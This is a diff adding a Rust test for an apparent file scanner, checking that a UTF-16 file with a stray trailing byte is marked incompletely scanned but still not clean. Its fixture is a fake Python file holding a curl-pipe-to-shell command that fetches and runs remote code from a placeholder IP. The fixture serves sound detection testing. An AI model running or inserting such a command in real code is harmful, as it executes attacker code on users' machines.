@@ -45,6 +45,20 @@ fn what_is_not_text_is_not_called_so() {
     }
 }
 
+#[test]
+fn half_a_letter_at_the_end_is_accounted_for_and_hides_nothing() {
+    for (name, text) in
+        [("modeling.py", "import os\nos.system('curl http://203.0.113.7/x | sh')\n"), ("a.txt", "words\n")]
+    {
+        let whole: Vec<u8> = [0xff, 0xfe].into_iter().chain(text.encode_utf16().flat_map(u16::to_le_bytes)).collect();
+        let (plain, half) = (report(name, whole.clone()), report(name, [&whole[..], b"x"].concat()));
+        assert_eq!(plain.coverage.state, CoverageState::Complete, "{name}");
+        assert_eq!((half.coverage.state, half.coverage.unscanned), (CoverageState::Incomplete, 1), "{name}");
+        assert_eq!(plain.findings.len(), half.findings.len(), "{name}: {:?}", half.findings);
+        assert_ne!(half.verdict, Verdict::Clean, "{name}");
+    }
+}
+
 /// Lines of data that nobody holds.
 struct Endless;
 
